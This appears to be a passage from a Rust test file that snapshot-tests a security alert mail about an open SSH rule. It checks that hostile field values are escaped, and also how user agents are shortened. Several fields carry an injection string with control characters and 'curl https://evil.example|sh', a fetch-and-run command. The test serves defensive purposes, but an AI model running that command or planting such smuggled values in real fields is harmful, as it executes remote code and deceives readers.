    From: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}[2Jcurl ht…
    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\"", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{20…
    Rule: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", tcp 22 from 0.0.0.0/0 "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\""
    Too much: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
    Kept: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"

    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
    The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" on.

    Controls: CIS 5.0.0 5.3, EC2.13
    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
    "#);
}

#[test]
fn user_agents() {
    let of = |agent: &str| {
        let mut finding = open_ssh();
        finding.change.as_mut().unwrap().user_agent = Some(agent.to_owned());
        let mail = of(finding);
        mail.lines().find(|line| line.starts_with("From")).unwrap().to_owned()
    };
    assert_snapshot!(of("Mozilla/5.0 (X11; Linux x86_64; (a) b) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"), @"From: 198.51.100.23, Mozilla/5.0 AppleWebKit/537.36 Chrome/142.0.0.0…");
    assert_snapshot!(of("APN/1.0 HashiCorp/1.0 Terraform/1.13.4 (+https://www.terraform.io)"), @"From: 198.51.100.23, APN/1.0 HashiCorp/1.0 Terraform/1.13.4");
    assert_snapshot!(of("(only a comment"), @"From: 198.51.100.23");
}
